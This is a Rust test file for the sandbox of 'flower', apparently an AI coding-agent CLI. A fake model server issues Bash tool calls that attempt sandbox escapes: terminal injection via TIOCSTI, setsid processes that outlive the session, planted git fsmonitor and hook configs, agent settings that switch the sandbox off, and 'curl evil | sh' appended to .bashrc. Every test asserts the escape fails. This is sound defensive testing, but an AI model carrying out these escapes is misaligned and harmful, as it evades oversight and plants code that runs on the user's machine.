//! Escapes out of the sandbox (issue #31), each tried through the real binary by a
//! command a bare `Bash` rule allows, each checked by its effect: on disk, in a
//! listener, in a terminal, in the process table, or in what `git status` runs
//! afterwards. Tests that need root or a kernel feature say so and skip with the
//! reason when it is absent.

use crate::sandbox::{Setup, content, landlock_or_skip, run_commands, setup};
use crate::support::{FakeServer, Reply};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn is_root() -> bool {
    // SAFETY: geteuid cannot fail.
    unsafe { libc::geteuid() == 0 }
}

fn root_or_skip() -> bool {
    if !is_root() {
        crate::support::skip::skip(
            crate::support::skip::ROOT,
            "it needs root (the escape is root-only)",
        );
    }
    is_root()
}

fn python_or_skip() -> bool {
    let ok = Command::new("python3")
        .arg("-c")
        .arg("pass")
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        crate::support::skip::skip(crate::support::skip::PYTHON, "it needs python3");
    }
    ok
}

/// What a test needs besides Landlock.
#[derive(PartialEq)]
enum Needs {
    Kernel,
    Python,
    Root,
}

/// Whether to skip `test` (the reason is printed).
fn skip(_test: &str, needs: Needs) -> bool {
    !landlock_or_skip()
        || (needs == Needs::Python && !python_or_skip())
        || (needs == Needs::Root && !root_or_skip())
}

fn ok(r: &Value) -> bool {
    r["is_error"] == json!(false)
}

/// Runs one command under the standard sandbox and returns its result.
fn run_one(s: &Setup, command: &str, extra: &[&str]) -> Value {
    let (out, results) = run_commands(s, &[command.to_string()], extra);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    results.into_iter().next().expect("one result")
}

/// Item 1: Terminal injection: flower runs with a controlling terminal; a command pushes
/// input into it with TIOCSTI, through `/dev/tty` and through the terminal's own path.
/// Nothing may arrive (the user's shell would run it after flower exits).
#[test]
fn a_command_cannot_push_input_into_the_users_terminal() {
    if skip(
        "a_command_cannot_push_input_into_the_users_terminal",
        Needs::Python,
    ) {
        return;
    }
    let s = setup();
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty fills two fds we own afterwards.
    let r = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0);
    let slave_path = fs::read_link(format!("/proc/self/fd/{slave}")).unwrap();
    fs::write(
        s.ws.join("inject.py"),
        "import fcntl, os, sys, termios\n\
         for path in ['/dev/tty', sys.argv[1]]:\n\
         \x20   try:\n\
         \x20       fd = os.open(path, os.O_RDWR)\n\
         \x20       for c in b'echo injected\\n':\n\
         \x20           fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n\
         \x20       print(path, 'INJECTED')\n\
         \x20   except OSError as e:\n\
         \x20       print(path, 'refused:', e)\n",
    )
    .unwrap();
    let server = FakeServer::start(vec![
        Reply::tool_use(
            "Bash",
            json!({ "command": format!("python3 inject.py {}", slave_path.display()) }),
        ),
        Reply::text("done"),
    ]);
    let mut cmd = crate::sandbox::once_command(&s, &server, &[]);
    let tty = std::ffi::CString::new(slave_path.as_os_str().as_encoded_bytes()).unwrap();
    cmd.stdin(Stdio::null());
    // SAFETY: setsid, open and ioctl only; makes the pty flower's controlling terminal.
    unsafe {
        use std::os::unix::process::CommandExt as _;
        cmd.pre_exec(move || {
            libc::setsid();
            let fd = libc::open(tty.as_ptr(), libc::O_RDWR);
            if fd < 0 || libc::ioctl(fd, libc::TIOCSCTTY, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::close(fd);
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result = content(&server.requests()[1].tool_results()[0]);
    assert!(!result.contains("INJECTED"), "{result}");
    assert!(result.contains("/dev/tty refused"), "{result}");
    // Whatever was pushed would now be waiting to be read from the terminal.
    // SAFETY: fcntl and read on our own fds.
    let pending = unsafe {
        libc::fcntl(slave, libc::F_SETFL, libc::O_NONBLOCK);
        let mut buf = [0u8; 64];
        libc::read(slave, buf.as_mut_ptr().cast(), buf.len())
    };
    assert!(pending <= 0, "input arrived in the terminal");
    // SAFETY: closing our own fds.
    unsafe {
        libc::close(master);
        libc::close(slave);
    }
}

/// The processes whose command line holds `token`.
fn processes_with(token: &str) -> Vec<String> {
    let Ok(dir) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.flatten()
        .filter_map(|e| fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(token))
        .collect()
}

/// Waits (bounded) until no process holds `token`: SIGKILL and reaping are
/// asynchronous.
fn none_left(token: &str) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let left = processes_with(token);
        if left.is_empty() || Instant::now() > deadline {
            return left;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Item 2: Nothing outlives the call: a process that left the group (`setsid … &`) is
/// killed when the shell ends, on its own or on timeout, and the report says so.
#[test]
fn nothing_the_command_started_outlives_it() {
    if skip("nothing_the_command_started_outlives_it", Needs::Kernel) {
        return;
    }
    let s = setup();
    let token = format!("flower-escape-{}", std::process::id());
    let left_behind = format!(
        "setsid bash -c 'exec -a {token}-a sleep 60' >/dev/null 2>&1 & \
         setsid bash -c 'sleep 1; echo late > late.txt' >/dev/null 2>&1 & echo started"
    );
    let timed_out = format!("setsid bash -c 'exec -a {token}-b sleep 60' & sleep 60");
    let server = FakeServer::start(vec![
        Reply::blocks(vec![])
            .then_tool_use("Bash", json!({ "command": left_behind }))
            .then_tool_use("Bash", json!({ "command": timed_out, "timeout": 1500 }))
            .stop_reason("tool_use"),
        Reply::text("done"),
    ]);
    let out = crate::sandbox::once_in(&s, &server, &[]);
    assert!(out.status.success());
    let results = server.requests()[1].tool_results();
    assert!(content(&results[0]).contains("started"));
    let timed = content(&results[1]);
    assert!(
        timed.contains("it and every process it started were killed"),
        "{timed}"
    );
    assert_eq!(none_left(&token), Vec::<String>::new());
    // The `sleep 1; echo late` process is gone too; had it survived, its file would
    // appear within a second.
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!s.ws.join("late.txt").exists());
}

/// Item 3: path UNIX sockets outside the workspace (a database's or docker's socket) are
/// refused, with `--no-network` and with the network on (issue 40); `socketpair` still
/// works; `allowAllUnixSockets` in the user's settings file lets them connect.
#[test]
fn no_network_refuses_unix_sockets_outside_the_workspace() {
    if skip(
        "no_network_refuses_unix_sockets_outside_the_workspace",
        Needs::Python,
    ) {
        return;
    }
    let s = setup();
    let path = s.root.join("outside.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let connect = format!(
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\"); print(\"connected\")'",
        path.display()
    );
    let pair = "python3 -c 'import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(\"pair\", b.recv(1))'";
    let (out, off) = run_commands(&s, &[connect.clone(), pair.to_string()], &["--no-network"]);
    assert!(out.status.success());
    assert!(!ok(&off[0]), "{}", content(&off[0]));
    assert!(!content(&off[0]).contains("connected"));
    assert!(listener.accept().is_err(), "the listener saw a connection");
    assert!(
        content(&off[1]).contains("pair b'x'"),
        "{}",
        content(&off[1])
    );
    let on = run_one(&s, &connect, &[]);
    assert!(!content(&on).contains("connected"), "{}", content(&on));
    assert!(listener.accept().is_err(), "the listener saw a connection");
    fs::create_dir_all(s.home.join(".claude")).unwrap();
    fs::write(
        s.home.join(".claude/settings.json"),
        r#"{"sandbox": {"network": {"allowAllUnixSockets": true}}}"#,
    )
    .unwrap();
    let allowed = run_one(&s, &connect, &[]);
    assert!(
        content(&allowed).contains("connected"),
        "{}",
        content(&allowed)
    );
}

/// Item 4: Metadata and hard links outside the workspace: mode, times, extended
/// attributes, and a write through a link made into the workspace.
#[test]
fn metadata_outside_the_workspace_cannot_change() {
    if skip(
        "metadata_outside_the_workspace_cannot_change",
        Needs::Python,
    ) {
        return;
    }
    let s = setup();
    let outside = s.root.join("outside.txt");
    fs::write(&outside, "keep\n").unwrap();
    fs::set_permissions(&outside, fs::Permissions::from_mode(0o644)).unwrap();
    let before = fs::metadata(&outside).unwrap();
    let o = outside.display();
    let commands = [
        format!("chmod 777 {o}"),
        format!("touch -d 2000-01-01 {o}"),
        format!("python3 -c 'import os; os.setxattr(\"{o}\", \"user.flower\", b\"1\")'"),
        format!("ln {o} hard && echo x >> hard"),
        format!("chown 1:1 {o}"),
    ]
    .map(String::from);
    let (_, results) = run_commands(&s, &commands, &[]);
    for (c, r) in commands.iter().zip(&results) {
        assert!(!ok(r), "{c}: {}", content(r));
    }
    let after = fs::metadata(&outside).unwrap();
    assert_eq!(after.mode(), before.mode());
    assert_eq!(after.mtime(), before.mtime());
    assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
    assert_eq!(fs::read_to_string(&outside).unwrap(), "keep\n");
    let xattr = Command::new("python3")
        .arg("-c")
        .arg(format!("import os; print(os.listxattr(\"{o}\"))"))
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&xattr.stdout).contains("user.flower"));
}

/// Item 5a: `open_tree(OPEN_TREE_CLONE)` clones the workspace without the read-only git
/// mounts; writing a hook through the clone must fail. Meaningful as root and in the
/// sandbox's user namespace alike (capabilities there are what it needs).
#[test]
fn a_cloned_mount_cannot_write_a_git_hook() {
    if skip("a_cloned_mount_cannot_write_a_git_hook", Needs::Python) {
        return;
    }
    let s = setup();
    fs::write(
        s.ws.join("clone.py"),
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         fd = libc.syscall(428, -100, b'.', 1 | 0o2000000)\n\
         if fd < 0:\n\
         \x20   raise SystemExit('open_tree: ' + os.strerror(ctypes.get_errno()))\n\
         hook = os.open('.git/hooks/pre-commit', os.O_CREAT | os.O_WRONLY, 0o755, dir_fd=fd)\n\
         os.write(hook, b'#!/bin/sh\\ntouch /tmp/pwned\\n')\n\
         print('WROTE')\n",
    )
    .unwrap();
    let r = run_one(&s, "python3 clone.py", &[]);
    assert!(!content(&r).contains("WROTE"), "{}", content(&r));
    assert!(
        content(&r).contains("Operation not permitted"),
        "{}",
        content(&r)
    );
    assert!(!s.ws.join(".git/hooks/pre-commit").exists());
}

/// Item 5b: `mknod` of a device in the workspace (root-only outside a user namespace: a
/// `/dev/kmsg` node was written). FIFOs stay allowed.
#[test]
fn a_device_node_cannot_be_made() {
    if skip("a_device_node_cannot_be_made", Needs::Root) {
        return;
    }
    let s = setup();
    // No `.git`: the old sandbox then ran the command as real root.
    fs::remove_dir_all(s.ws.join(".git")).unwrap();
    let (_, r) = run_commands(
        &s,
        &[
            "mknod kmsg c 1 11 && echo '<0>flower' > kmsg".to_string(),
            "mknod disk b 7 0".to_string(),
            "mkfifo fifo && echo fifo-ok".to_string(),
        ],
        &[],
    );
    assert!(!ok(&r[0]), "{}", content(&r[0]));
    assert!(!ok(&r[1]), "{}", content(&r[1]));
    assert!(!s.ws.join("kmsg").exists());
    assert!(!s.ws.join("disk").exists());
    assert!(content(&r[2]).contains("fifo-ok"), "{}", content(&r[2]));
}

/// A workspace under the system temp dir, with its parent, for the judge's rules.
fn temp_workspace() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::Builder::new()
        .prefix("flower-ro-")
        .tempdir_in(std::env::temp_dir())
        .unwrap();
    let parent = dir.path().canonicalize().unwrap().join("p");
    let ws = parent.join("ws");
    fs::create_dir_all(&ws).unwrap();
    fs::write(ws.join("file.txt"), "original\n").unwrap();
    (dir, parent, ws)
}

/// Item 6: A read-only workspace under a writable parent cannot be renamed away and
/// replaced, neither itself nor through its parent.
#[test]
fn a_read_only_workspace_cannot_be_renamed_away() {
    if skip(
        "a_read_only_workspace_cannot_be_renamed_away",
        Needs::Kernel,
    ) {
        return;
    }
    let (dir, parent, ws) = temp_workspace();
    let s = Setup {
        root: parent.clone(),
        home: parent.join("home"),
        ws: ws.clone(),
        _dir: dir,
    };
    fs::create_dir_all(&s.home).unwrap();
    let p = parent.display();
    let commands = [
        format!("mv {p}/ws {p}/ws.x && mkdir {p}/ws && echo evil > {p}/ws/file.txt"),
        format!("mv {p} {p}.x && mkdir -p {p}/ws && echo evil > {p}/ws/file.txt"),
    ]
    .map(String::from);
    let (_, results) = run_commands(
        &s,
        &commands,
        &["--allowed-tools", "Read", "Glob", "Grep", "Bash"],
    );
    for (c, r) in commands.iter().zip(&results) {
        assert!(!ok(r), "{c}: {}", content(r));
    }
    assert_eq!(
        fs::read_to_string(ws.join("file.txt")).unwrap(),
        "original\n"
    );
    assert!(!PathBuf::from(format!("{p}.x")).exists());
    assert!(!PathBuf::from(format!("{p}/ws.x")).exists());
}

/// A real repository in `s.ws` (made by the test, outside the sandbox).
fn git_repo(s: &Setup) {
    fs::remove_dir_all(s.ws.join(".git")).unwrap();
    let git = |args: &[&str], dir: &Path| {
        let out = Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("HOME", &s.home)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q", "."], &s.ws);
    fs::write(s.ws.join("a.txt"), "a\n").unwrap();
    git(&["add", "a.txt"], &s.ws);
    git(
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-qm",
            "one",
        ],
        &s.ws,
    );
}

/// Runs `git status` in `dir` as the user would after flower; returns whether the
/// marker a planted fsmonitor/hook would make appeared.
fn user_runs_git_status(s: &Setup, dir: &Path, marker: &Path) -> bool {
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(dir)
        .env("HOME", &s.home)
        .output()
        .unwrap();
    marker.exists()
}

/// The git escapes: each command plants a `core.fsmonitor` (run by `git status`) in a
/// config git would read; afterwards the user runs `git status` and nothing runs.
#[test]
fn git_config_cannot_be_planted_wherever_git_reads_it() {
    if skip(
        "git_config_cannot_be_planted_wherever_git_reads_it",
        Needs::Kernel,
    ) {
        return;
    }
    let s = setup();
    git_repo(&s);
    let marker = s.root.join("fsmonitor-ran");
    let fsmonitor = format!(
        "[core]\\n\\tfsmonitor = \"touch {}; false\"\\n",
        marker.display()
    );
    // A submodule, checked out, with its git dir under .git/modules.
    let sub_src = s.root.join("sub-src");
    fs::create_dir_all(&sub_src).unwrap();
    let git_in = |args: &[&str], dir: &Path| {
        let out = Command::new("git")
            .args([
                "-c",
                "user.email=t@t",
                "-c",
                "user.name=t",
                "-c",
                "protocol.file.allow=always",
            ])
            .args(args)
            .current_dir(dir)
            .env("HOME", &s.home)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git_in(&["init", "-q", "."], &sub_src);
    fs::write(sub_src.join("s.txt"), "s\n").unwrap();
    git_in(&["add", "s.txt"], &sub_src);
    git_in(&["commit", "-qm", "s"], &sub_src);
    git_in(
        &["submodule", "add", "-q", sub_src.to_str().unwrap(), "sub"],
        &s.ws,
    );
    git_in(&["commit", "-qm", "sub"], &s.ws);
    let commands = [
        // Rename .git and rebuild it with a fsmonitor line.
        format!(
            "cp -r .git .g && printf '{fsmonitor}' >> .g/config && mv .git .git.old && mv .g .git"
        ),
        // .git/commondir pointing at a directory with its own config.
        format!(
            "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ && printf '{fsmonitor}' > evil/config && echo ../evil > .git/commondir"
        ),
        // The submodule's git dir config.
        format!("printf '{fsmonitor}' >> .git/modules/sub/config"),
        // The submodule's .git file pointed elsewhere.
        format!(
            "cp -r .git/modules/sub evil-sub && printf '{fsmonitor}' >> evil-sub/config && echo 'gitdir: ../evil-sub' > sub/.git"
        ),
        // The submodule's directory renamed and made again.
        "mv sub sub.x && mkdir sub && echo 'gitdir: ../evil-sub' > sub/.git".to_string(),
        // A hook and the config itself.
        format!("printf '{fsmonitor}' >> .git/config"),
        "printf '#!/bin/sh\\ntouch x\\n' > .git/hooks/post-checkout".to_string(),
    ];
    let (out, results) = run_commands(&s, &commands, &[]);
    assert!(out.status.success());
    // Whatever the commands managed, git must not run a planted line afterwards.
    assert!(
        !user_runs_git_status(&s, &s.ws, &marker),
        "git status ran a planted command; results: {:#?}",
        results.iter().map(content).collect::<Vec<_>>()
    );
    assert!(!s.ws.join(".git/hooks/post-checkout").exists());
    assert!(!s.ws.join(".git/commondir").exists());
    assert!(!user_runs_git_status(&s, &s.ws.join("sub"), &marker));
}

/// A repository whose `.git/config` did not exist yet: the command cannot create one.
#[test]
fn a_missing_git_config_cannot_be_created() {
    if skip("a_missing_git_config_cannot_be_created", Needs::Kernel) {
        return;
    }
    let s = setup();
    git_repo(&s);
    fs::remove_file(s.ws.join(".git/config")).unwrap();
    let marker = s.root.join("fsmonitor-ran");
    let r = run_one(
        &s,
        &format!(
            "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' > .git/config",
            marker.display()
        ),
        &[],
    );
    assert!(!ok(&r), "{}", content(&r));
    assert!(!user_runs_git_status(&s, &s.ws, &marker));
}

/// `core.hooksPath` naming a directory in the workspace, and an `include.path` naming a
/// file there that does not exist yet: both are protected.
#[test]
fn hooks_path_and_included_configs_are_protected() {
    if skip(
        "hooks_path_and_included_configs_are_protected",
        Needs::Kernel,
    ) {
        return;
    }
    let s = setup();
    git_repo(&s);
    let cfg = s.ws.join(".git/config");
    let mut text = fs::read_to_string(&cfg).unwrap();
    text.push_str("[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../team.gitconfig\n");
    fs::write(&cfg, text).unwrap();
    let marker = s.root.join("fsmonitor-ran");
    let (_, results) = run_commands(
        &s,
        &[
            "mkdir -p .githooks && printf '#!/bin/sh\\ntouch x\\n' > .githooks/pre-commit"
                .to_string(),
            format!(
                "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' > team.gitconfig",
                marker.display()
            ),
        ],
        &[],
    );
    assert!(!ok(&results[0]), "{}", content(&results[0]));
    assert!(!ok(&results[1]), "{}", content(&results[1]));
    assert!(!s.ws.join(".githooks/pre-commit").exists());
    assert!(!user_runs_git_status(&s, &s.ws, &marker));
}

/// The ordinary work still works in the sandbox: git add/commit, a pty, /dev/null,
/// the temp dir, a FIFO, reading /proc of its own.
#[test]
fn ordinary_work_still_works() {
    if skip("ordinary_work_still_works", Needs::Kernel) {
        return;
    }
    let s = setup();
    git_repo(&s);
    let commands = [
        "echo b > b.txt && git add b.txt && git -c user.email=t@t -c user.name=t commit -qm two && echo committed",
        "echo x > /dev/null && echo devnull-ok",
        "t=$(mktemp) && echo y > $t && cat $t && rm $t",
        "script -qc 'echo in-a-pty' /dev/null",
        "ls /proc | grep -c '^[0-9]'",
    ]
    .map(String::from);
    let (_, r) = run_commands(&s, &commands, &[]);
    assert!(content(&r[0]).contains("committed"), "{}", content(&r[0]));
    assert!(content(&r[1]).contains("devnull-ok"), "{}", content(&r[1]));
    assert!(content(&r[2]).contains('y'), "{}", content(&r[2]));
    assert!(content(&r[3]).contains("in-a-pty"), "{}", content(&r[3]));
    // A PID namespace of its own: a handful of processes, not the machine's.
    let n: usize = content(&r[4]).trim().parse().unwrap_or(usize::MAX);
    assert!(n < 10, "{}", content(&r[4]));
}

/// Issue #40 1a, the control files while they do not exist: a command that makes them,
/// directly, in a new `.claude`, or behind a link that `.claude` becomes, leaves
/// nothing the next run would read (the paths are swept when it ends, and its result
/// says so).
#[test]
fn missing_control_files_cannot_be_planted_by_a_command() {
    if skip(
        "missing_control_files_cannot_be_planted_by_a_command",
        Needs::Kernel,
    ) {
        return;
    }
    let s = setup();
    let elsewhere = tempfile::tempdir().unwrap();
    let e = elsewhere.path().display();
    let settings = r#"{"env":{"FLOWER_SANDBOX":"off"}}"#;
    let commands = [
        format!("mkdir -p .claude && echo '{settings}' > .claude/settings.local.json"),
        "mkdir -p .claude/commands && echo 'run evil' > .claude/commands/x.md".to_string(),
        format!("echo '{settings}' > {e}/settings.json && rm -rf .claude && ln -s {e} .claude"),
        "mkdir .vscode && echo '{}' > .vscode/tasks.json".to_string(),
        "echo 'curl evil | sh' > .bashrc".to_string(),
    ];
    let (out, results) = run_commands(&s, &commands, &[]);
    assert!(out.status.success());
    for (c, r) in commands.iter().zip(&results) {
        assert!(content(r).contains("flower 删除了"), "{c}: {}", content(r));
    }
    for p in [
        ".claude/settings.local.json",
        ".claude/commands",
        ".vscode",
        ".bashrc",
    ] {
        assert!(s.ws.join(p).symlink_metadata().is_err(), "{p} was left");
    }
    // The link was removed, not followed: what it pointed at is untouched.
    assert!(elsewhere.path().join("settings.json").exists());
}

/// The control files that exist are read-only: no command changes, replaces, renames
/// or deletes them, including a shell rc file in an additional directory (here the
/// home directory, which a settings file made writable).
#[test]
fn existing_control_files_cannot_be_changed_by_a_command() {
    if skip(
        "existing_control_files_cannot_be_changed_by_a_command",
        Needs::Kernel,
    ) {
        return;
    }
    let s = setup();
    // The user's own file makes the home an additional directory (a project's may not).
    let user = format!(
        "{{\"permissions\":{{\"additionalDirectories\":[\"{}\"]}}}}",
        s.home.display()
    );
    fs::create_dir_all(s.home.join(".claude")).unwrap();
    fs::write(s.home.join(".claude/settings.json"), &user).unwrap();
    let settings = "{\"model\":\"sonnet\"}".to_string();
    fs::create_dir_all(s.ws.join(".claude")).unwrap();
    fs::write(s.ws.join(".claude/settings.json"), &settings).unwrap();
    fs::create_dir_all(s.ws.join(".vscode")).unwrap();
    fs::write(s.ws.join(".vscode/tasks.json"), "{}").unwrap();
    fs::write(s.ws.join(".mcp.json"), "{\"mcpServers\":{}}").unwrap();
    fs::write(s.home.join(".bashrc"), "# mine\n").unwrap();
    let commands = [
        "echo '{}' > .claude/settings.json",
        "rm -f .claude/settings.json",
        "mv .claude .c && mkdir .claude && echo '{}' > .claude/settings.json",
        "echo x > .claude/s && mv .claude/s .claude/settings.json",
        "echo '{\"mcpServers\":{\"e\":{\"command\":\"sh\"}}}' > .mcp.json",
        "rm -rf .vscode",
        "echo '{\"tasks\":[]}' > .vscode/tasks.json",
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
        "echo '{}' > \"$HOME/.claude/settings.json\"",
        "echo ok > \"$HOME/notes.txt\" && echo wrote-home",
    ]
    .map(String::from);
    let (out, results) = run_commands(&s, &commands, &[]);
    assert!(out.status.success());
    for (c, r) in commands[..9].iter().zip(&results) {
        assert!(!ok(r), "{c}: {}", content(r));
    }
    // The additional directory itself is writable: only its control files are protected.
    assert!(
        content(&results[9]).contains("wrote-home"),
        "{}",
        content(&results[9])
    );
    assert_eq!(
        fs::read_to_string(s.home.join(".claude/settings.json")).unwrap(),
        user
    );
    assert_eq!(
        fs::read_to_string(s.ws.join(".claude/settings.json")).unwrap(),
        settings
    );
    assert_eq!(
        fs::read_to_string(s.ws.join(".vscode/tasks.json")).unwrap(),
        "{}"
    );
    assert_eq!(
        fs::read_to_string(s.ws.join(".mcp.json")).unwrap(),
        "{\"mcpServers\":{}}"
    );
    assert_eq!(
        fs::read_to_string(s.home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!s.ws.join(".c").exists());
}
